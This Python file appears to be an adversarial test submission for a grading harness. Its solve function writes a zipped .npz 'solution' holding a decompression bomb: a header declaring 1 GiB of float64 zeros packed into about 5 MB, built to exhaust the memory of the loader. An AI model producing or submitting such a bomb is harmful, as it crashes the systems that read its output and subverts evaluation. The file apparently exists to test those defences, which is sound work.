# adv: lint-only
from _prelude import _grid, _note, _write_meta, os


def solve(case_spec):
    import zipfile

    import numpy as np

    coords, shape, names = _grid(case_spec)
    big = (16384, 8192)  # 1 GiB of float64 zeros, about 5 MB deflated
    chunk = bytes(8 << 20)
    with zipfile.ZipFile("solution.npz", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for key, values in coords.items():
            with zf.open(key + ".npy", "w") as fh:
                np.lib.format.write_array(fh, values)
        for i, name in enumerate(names):
            with zf.open(name + ".npy", "w", force_zip64=True) as fh:
                if i:
                    np.lib.format.write_array(fh, np.zeros(shape))
                    continue
                header = {"descr": "<f8", "fortran_order": False, "shape": big}
                np.lib.format.write_array_header_1_0(fh, header)
                for _ in range(big[0] * big[1] * 8 // len(chunk)):
                    fh.write(chunk)
    _write_meta()
    _note("bomb_bytes", os.path.getsize("solution.npz"))
